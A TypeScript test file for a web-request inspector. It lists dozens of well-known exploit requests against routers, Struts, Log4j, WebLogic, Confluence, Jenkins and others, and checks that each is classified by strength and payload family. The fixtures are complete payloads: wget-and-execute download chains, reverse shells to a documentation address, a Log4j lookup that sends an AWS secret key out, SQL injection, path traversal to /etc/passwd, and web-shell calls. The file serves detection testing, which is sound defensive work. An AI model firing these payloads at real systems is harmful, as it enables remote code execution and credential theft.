// biome-ignore-all lint/suspicious/noTemplateCurlyInString: look-ups are spelt like that.
// Requests that well-known attacks send, written from the public descriptions of the holes. Addresses are those of documentation.
import { expect, it } from 'vitest';
import { inspectRequest, type RequestFacts } from './inspect-request.ts';
import type { PayloadFamily, Strength } from './sign.ts';

const attacks: readonly (readonly [name: string, strength: Strength, family: PayloadFamily, request: RequestFacts])[] = [
  [
    'thinkphp',
    'exploit',
    'code',
    { uri: '/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id' },
  ],
  [
    'gpon',
    'exploit',
    'download',
    {
      uri: '/GponForm/diag_Form?images/',
      post_body: 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://192.0.2.5/8+-O+->/tmp/8;sh+/tmp/8&ipv=0',
    },
  ],
  ['jaws', 'exploit', 'download', { uri: '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.5/jaws;sh+/tmp/jaws' }],
  [
    'netgear',
    'exploit',
    'download',
    {
      uri: '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.5:80/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1',
    },
  ],
  [
    'huawei',
    'exploit',
    'code',
    {
      uri: '/ctrlt/DeviceUpgrade_1',
      post_body:
        '<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.5 -l /tmp/x -r /x; sh /tmp/x)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade>',
    },
  ],
  [
    'realtek upnp',
    'attack',
    'download',
    {
      uri: '/picsdesc.xml',
      post_body: '<NewInternalClient>`cd /tmp/; rm -rf *; wget http://192.0.2.5/x; chmod 777 x; ./x`</NewInternalClient>',
    },
  ],
  [
    'zyxel',
    'exploit',
    'download',
    {
      uri: '/cgi-bin/ViewLog.asp',
      post_body:
        'remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp;wget+http://192.0.2.5/arm7;chmod+777+arm7;./arm7+zyxel%3b%23&remoteSubmit=Save',
    },
  ],
  ['dlink', 'exploit', 'download', { uri: '/cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://192.0.2.5/x' }],
  [
    'hnap',
    'exploit',
    'download',
    {
      uri: '/HNAP1/',
      request_headers: ['SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://192.0.2.5/x && sh x`'],
    },
  ],
  [
    'tplink',
    'exploit',
    'download',
    { uri: '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget http://192.0.2.5/l -O-|sh`)' },
  ],
  [
    'confluence 26134',
    'exploit',
    'code',
    {
      uri: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/',
    },
  ],
  [
    'confluence 26084',
    'exploit',
    'code',
    {
      uri: '/pages/createpage-entervariables.action',
      post_body:
        'queryString=%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29.newInstance%28%29%7d%2b%5cu0027',
    },
  ],
  [
    'spring4shell',
    'exploit',
    'code',
    {
      uri: '/helloworld/greeting',
      post_body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bprefix%7Di%20java.io.InputStream',
    },
  ],
  [
    'spring cloud',
    'exploit',
    'code',
    {
      uri: '/functionRouter',
      request_headers: ['spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("touch /tmp/x")'],
    },
  ],
  [
    'struts2 s2-045',
    'exploit',
    'code',
    {
      uri: '/x.action',
      request_headers: [
        "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1).(#cmd='id')}",
      ],
    },
  ],
  ['struts2 s2-057', 'probe', 'template', { uri: '/%24%7B%28111%2B111%29%7D/actionChain1.action' }],
  ['shellshock', 'exploit', 'command', { uri: '/cgi-bin/vulnerable', user_agent: '() { foo;};echo;/bin/cat /etc/passwd' }],
  ['shellshock2', 'exploit', 'command', { uri: '/cgi-bin/status', request_headers: ['Cookie: () { :; }; ping -c 11 192.0.2.5'] }],
  [
    'phpcgi 2012',
    'exploit',
    'code',
    {
      uri: '/cgi-bin/php?-d+allow_url_include%3don+-d+safe_mode%3doff+-d+auto_prepend_file%3dphp://input+-n',
      post_body: '<?php system("wget http://192.0.2.5/x"); ?>',
    },
  ],
  ['phpcgi 2012 enc', 'exploit', 'code', { uri: '/cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E' }],
  [
    'phpcgi 2024',
    'exploit',
    'code',
    { uri: '/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', post_body: '<?php echo md5("x"); ?>' },
  ],
  ['phpunit', 'exploit', 'code', { uri: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', post_body: '<?=md5("phpunit")?>' }],
  [
    'drupalgeddon2',
    'exploit',
    'code',
    {
      uri: '/user/register?element_parents=account/mail/%23value&ajax_form=1',
      post_body: 'form_id=user_register_form&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id',
    },
  ],
  ['f5', 'attack', 'traversal', { uri: '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd' }],
  ['f5 bash', 'attack', 'command', { uri: '/mgmt/tm/util/bash', post_body: '{"command":"run","utilCmdArgs":"-c id"}' }],
  ['citrix', 'attack', 'traversal', { uri: '/vpn/../vpns/cfg/smb.conf' }],
  ['pulse', 'attack', 'traversal', { uri: '/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/' }],
  ['grafana', 'attack', 'traversal', { uri: '/public/plugins/alertlist/../../../../../../../../etc/passwd' }],
  [
    'weblogic',
    'exploit',
    'reverse-shell',
    {
      uri: '/wls-wsat/CoordinatorPortType',
      post_body:
        '<soapenv:Envelope><soapenv:Header><work:WorkContext><java version="1.8"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>bash -i &gt;&amp; /dev/tcp/192.0.2.5/4444 0&gt;&amp;1</string></void></array><void method="start"/></void></java>',
    },
  ],
  [
    'weblogic console',
    'exploit',
    'code',
    {
      uri: '/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27touch%20/tmp/x%27);%22)',
    },
  ],
  ['jenkins', 'exploit', 'code', { uri: '/script', post_body: 'script=println+%22id%22.execute().text' }],
  [
    'jenkins2',
    'exploit',
    'code',
    {
      uri: '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public class x {public x(){"curl 192.0.2.5".execute()}}',
    },
  ],
  [
    'solr velocity',
    'exploit',
    'code',
    {
      uri: '/solr/x/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))',
    },
  ],
  [
    'laravel ignition',
    'attack',
    'code',
    {
      uri: '/_ignition/execute-solution',
      post_body:
        '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"php://filter/write=convert.iconv"}}',
    },
  ],
  [
    'exchange ssrf',
    'attack',
    'request-forgery',
    { uri: '/autodiscover/autodiscover.json?@evil.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.com' },
  ],
  ['exchange proxynotshell', 'attack', 'request-forgery', { uri: '/autodiscover/autodiscover.json?a..foo.var/powershell/?X-Rps-CAT=x' }],
  ['dvwa exec', 'exploit', 'command', { uri: '/dvwa/vulnerabilities/exec/', post_body: 'ip=127.0.0.1%3Bls&Submit=Submit' }],
  ['dvwa exec2', 'exploit', 'command', { uri: '/dvwa/vulnerabilities/exec/', post_body: 'ip=127.0.0.1+%26+dir&Submit=Submit' }],
  ['dvwa exec3', 'exploit', 'command', { uri: '/dvwa/vulnerabilities/exec/', post_body: 'ip=127.0.0.1 | whoami&Submit=Submit' }],
  ['dvwa exec4', 'exploit', 'command', { uri: '/dvwa/vulnerabilities/exec/', post_body: 'ip=;cat ../../../../etc/passwd&Submit=Submit' }],
  [
    'dvwa xss',
    'probe',
    'script',
    { uri: '/dv/vulnerabilities/xss_r/?name=<script>console.log("x");console.log(document.cookie);</script>' },
  ],
  ['dvwa lfi', 'exploit', 'code', { uri: '/dvwa/vulnerabilities/fi/?page=php://filter/convert.base64-encode/resource=index.php' }],
  ['dvwa rfi', 'attack', 'request-forgery', { uri: '/dvwa/vulnerabilities/fi/?page=http://192.0.2.5/shell.txt' }],
  [
    'sqlmap time',
    'attack',
    'sql',
    { uri: '/x.php?id=1%27%20AND%20%28SELECT%206204%20FROM%20%28SELECT%28SLEEP%285%29%29%29x%29%20AND%20%27a%27%3D%27a' },
  ],
  ['sqlmap union', 'attack', 'sql', { uri: '/x.php?id=1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7176%2C0x41%29%2CNULL--%20-' }],
  ['sqlmap bool', 'attack', 'sql', { uri: '/x.php?id=1%29%20AND%204387%3D4387%20AND%20%287438%3D7438' }],
  ['sqlmap order', 'attack', 'sql', { uri: '/x.php?id=1%27%20ORDER%20BY%201--%20-' }],
  ['sqli login', 'attack', 'sql', { uri: '/login.php', post_body: 'username=admin%27+or+%271%27%3D%271&password=x' }],
  ['sqli login2', 'attack', 'sql', { uri: '/login.php', post_body: "username=admin'%23&password=x" }],
  ['sqli json', 'attack', 'sql', { uri: '/rest/user/login', post_body: '{"email":"\' OR 1=1--","password":"x"}' }],
  [
    'moveit',
    'attack',
    'sql',
    {
      uri: '/moveitisapi/moveitisapi.dll?action=m2',
      request_headers: ["X-siLock-SessVar0: MyPkgSelfProvisionedRecips: SQL Injection'; INSERT INTO users VALUES(1)"],
    },
  ],
  ['wso upload', 'probe', 'web-shell', { uri: '/wp-content/uploads/2021/05/wso.php', post_body: 'a=FilesMan&c=/var/www' }],
  ['webshell get', 'exploit', 'web-shell', { uri: '/wp-content/plugins/hello/x.php?cmd=cat%20/etc/passwd' }],
  ['webshell aspx', 'exploit', 'web-shell', { uri: '/aspnet_client/shell.aspx', post_body: 'cmd=whoami' }],
  ['webshell 0', 'exploit', 'web-shell', { uri: '/x.php?0=id' }],
  [
    'chopper aspx',
    'exploit',
    'code',
    { uri: '/owa/auth/x.aspx', post_body: 'orange=Response.Write(new ActiveXObject("WScript.Shell").exec("whoami").stdout.readall())' },
  ],
  [
    'chopper php',
    'exploit',
    'web-shell',
    { uri: '/a.php', post_body: 'x=%40eval%01%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=QGluaV9zZXQo' },
  ],
  [
    'antsword',
    'exploit',
    'code',
    {
      uri: '/a.php',
      post_body:
        'ant=%40ini_set(%22display_errors%22%2C%20%220%22)%3B%40set_time_limit(0)%3Bfunction%20asenc(%24out)%7Breturn%20%24out%3B%7D%3Becho%20%40eval(base64_decode(x))',
    },
  ],
  [
    'tomcat put',
    'exploit',
    'code',
    { uri: '/shell.jsp/', post_body: '<%out.println("x"); Runtime.getRuntime().exec(request.getParameter("cmd"));%>' },
  ],
  [
    'elastic mvel',
    'exploit',
    'code',
    {
      uri: '/_search?pretty',
      post_body:
        '{"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\").getText()"}}}',
    },
  ],
  [
    'hadoop yarn',
    'exploit',
    'reverse-shell',
    {
      uri: '/ws/v1/cluster/apps',
      post_body:
        '{"am-container-spec":{"commands":{"command":"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjUvNDQ0NCAwPiYx|base64 -d|bash"}}}',
    },
  ],
  [
    'docker api',
    'attack',
    'download',
    {
      uri: '/v1.24/containers/create',
      post_body: '{"Image":"alpine","Cmd":["chroot","/mnt","bash","-c","wget -q -O- http://192.0.2.5/cron.sh | bash"]}',
    },
  ],
  ['k8s kubelet', 'exploit', 'download', { uri: '/run/kube-system/x/y', post_body: 'cmd=wget -O- http://192.0.2.5/k.sh|sh' }],
  ['redis ssrf', 'attack', 'request-forgery', { uri: '/x?url=gopher://127.0.0.1:6379/_SET%20x' }],
  ['ssrf dec', 'attack', 'request-forgery', { uri: '/fetch?u=http://2852039166/latest/meta-data' }],
  [
    'xxe param',
    'attack',
    'external-entity',
    { uri: '/x', post_body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % dtd SYSTEM "http://192.0.2.5/e.dtd"> %dtd;]>' },
  ],
  ['log4j header', 'exploit', 'look-up', { uri: '/', request_headers: ['X-Forwarded-For: ${jndi:${lower:l}${lower:d}ap://192.0.2.5/x}'] }],
  ['log4j unicode', 'exploit', 'look-up', { uri: '/?x=${jnd${upper:ı}:ldap://192.0.2.5/x}' }],
  ['log4j dns exfil', 'exploit', 'look-up', { uri: '/?x=${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.example.com/a}' }],
  ['ssti', 'exploit', 'code', { uri: '/?n={{config.__class__.__init__.__globals__["os"].popen("id").read()}}' }],
  ['ssti2', 'probe', 'template', { uri: '/?n=${{7*7}}' }],
  ['node deser', 'exploit', 'code', { uri: '/?x={"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}' }],
  ['python pickle', 'exploit', 'code', { uri: '/x?y=__import__("os").system("id")' }],
  ['vbulletin', 'exploit', 'code', { uri: '/ajax/render/widget_php', post_body: 'widgetConfig[code]=echo shell_exec("id"); exit;' }],
  [
    'zimbra',
    'attack',
    'code',
    { uri: '/service/extension/backup/mboximport?account-name=admin', post_body: '<%@ page import="java.util.*" %>' },
  ],
  [
    'cacti',
    'exploit',
    'reverse-shell',
    {
      uri: "/remote_agent.php?action=polldata&local_data_ids[0]=1&host_id=1&poller_id=;bash+-c+'bash+-i+>%26+/dev/tcp/192.0.2.5/4444+0>%261'",
    },
  ],
  [
    'vmware',
    'exploit',
    'code',
    {
      uri: '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3fnew%28%29%28%22id%22%29%7d',
    },
  ],
  [
    'gitlab exif',
    'attack',
    'download',
    {
      uri: '/uploads/user',
      post_body:
        '--x Content-Disposition: form-data; name="file"; filename="a.jpg" AT&TFORM (metadata "\\c${system(qx{curl http://192.0.2.5/x|bash})}")',
    },
  ],
  ['iis unicode', 'exploit', 'traversal', { uri: '/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir' }],
  ['iis double', 'exploit', 'traversal', { uri: '/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir+c:\\' }],
  ['nimda', 'exploit', 'web-shell', { uri: '/scripts/root.exe?/c+dir' }],
  [
    'codered',
    'exploit',
    'code',
    { uri: '/default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801' },
  ],
  ['dasan', 'exploit', 'bind-shell', { uri: '/cgi-bin/cgi?x=%3Btelnetd%20-p%204444%20-l%20/bin/sh' }],
  ['goahead ld_preload', 'exploit', 'code', { uri: '/cgi-bin/x?LD_PRELOAD=/proc/self/fd/0' }],
  ['nodered', 'attack', 'code', { uri: '/a', post_body: '{"x":"require(\\"child_process\\").exec(\\"id\\")"}' }],
];

it.each(attacks)('%s is told as %s of family %s', (_, strength, family, request) => {
  expect(inspectRequest(request)[0]).toMatchObject({ strength, family });
});
